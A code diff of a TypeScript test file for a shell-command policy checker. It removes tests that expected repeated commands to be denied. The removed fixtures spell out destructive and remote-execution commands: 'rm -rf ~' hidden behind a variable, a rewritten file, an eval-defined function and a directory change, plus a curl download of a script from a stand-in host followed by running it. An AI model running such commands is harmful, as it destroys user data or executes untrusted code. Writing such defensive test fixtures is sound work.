@@ -1,14 +1,6 @@
-// Commands that stand in a script more than once: read once, and judged again where what they depend on changed.
+// Commands that stand in a script more than once are read once. That they are judged again is in the corpus.
 import { describe, expect, it } from "vitest";
 import { parseShell } from "../../../../../src/policy/commands/shell/parse.ts";
-import { decide } from "../../../../../src/policy/decide.ts";
-
-const RULES = { protectedPaths: [], forbiddenCommands: [], budgetUsd: Number.POSITIVE_INFINITY };
-
-function decision(command: string, forbiddenCommands: readonly string[] = []): string {
-	const input = { action: "Run", action_kind: "edit" as const, files_affected: [], commands: [command] };
-	return decide(input, { ...RULES, forbiddenCommands }).decision;
-}
 
 describe("a command that stands in a script again", () => {
 	it("is read once where its text says everything about it", () => {
@@ -30,22 +22,6 @@ describe("a command that stands in a script again", () => {
 		]);
 		expect(commands[7]?.reads).toEqual({ from: 9, to: 10 });
 		expect(commands[4]?.reads).toBeNull();
-	});
-
-	it.each([
-		["a variable", "$x -rf ~; x=rm; $x -rf ~"],
-		["a file", "sh a.sh; echo 'rm -rf ~' > a.sh; sh a.sh"],
-		["a folder", "rm -rf src/a; cd /etc; rm -rf src/a"],
-		["a function", "a ~; f() { true; }; eval 'a() { rm -rf $1; }'; a ~; a ~"],
-		["a download", "sh i.sh; curl -o i.sh https://example.test/i.sh; sh i.sh"],
-	])("is judged again after a change of %s", (_, command) => {
-		expect(decision(command)).toBe("deny");
-	});
-
-	it("advances a pattern of several commands", () => {
-		expect(decision("a; a", ["a; a; a"])).toBe("allow");
-		expect(decision("a; a; a", ["a; a; a"])).toBe("deny");
-		expect(decision("a; b; a; b", ["a; b; a; b"])).toBe("deny");
 	});
 });
 
